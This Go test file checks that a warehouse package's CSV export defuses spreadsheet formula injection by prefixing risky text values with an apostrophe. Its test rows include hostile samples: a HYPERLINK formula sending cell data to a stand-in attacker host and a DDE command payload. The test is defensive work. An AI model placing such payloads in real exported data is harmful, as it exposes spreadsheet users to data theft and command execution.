package warehouse_test

import (
	"bytes"
	"encoding/json"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/analyticsbot/analyticsbot/warehouse"
)

// A text column's value or a column name that a spreadsheet would run as
// a formula is exported with an apostrophe before it; numbers, negative
// ones included, text that only contains such a character, and other
// columns' text (an interval, money, bytea's base64) are written as they
// are.
func TestCSVDefusesFormulas(t *testing.T) {
	t.Parallel()
	r := warehouse.Result{
		Columns: []warehouse.Column{{Name: "=name", Kind: warehouse.KindText}, {Name: "n", Kind: warehouse.KindNumber},
			{Name: "amount", Kind: warehouse.KindNumber}, {Name: "other", Kind: warehouse.KindOther}},
		Rows: [][]any{
			{`=HYPERLINK("https://evil.example/?"&A2,"x")`, int64(-2), json.Number("-12.50"), "-3 days"},
			{"=cmd|' /C calc'!A0", -2.5, "-$1.50", "+A=="}, // money and bytea's base64 are PostgreSQL's text
			{"+1-555-0100", int64(1), json.Number("3"), nil},
			{"-2+3", int64(1), nil, nil},
			{"@SUM(A1)", int64(1), nil, nil},
			{"\tx", int64(1), nil, nil},
			{"-12.5", int64(1), nil, nil}, // a number, as text (Cube's values are)
			{"a=b, c", int64(1), nil, nil},
			{"", int64(1), nil, nil},
		},
	}
	var b bytes.Buffer
	require.NoError(t, warehouse.WriteCSV(&b, r))
	assert.Equal(t, `'=name,n,amount,other
"'=HYPERLINK(""https://evil.example/?""&A2,""x"")",-2,-12.50,-3 days
'=cmd|' /C calc'!A0,-2.5,-$1.50,+A==
'+1-555-0100,1,3,
'-2+3,1,,
'@SUM(A1),1,,
'	x,1,,
-12.5,1,,
"a=b, c",1,,
"",1,,
`, b.String(), "only text columns' values, and every name; an interval, money and base64 stay as they are")
}
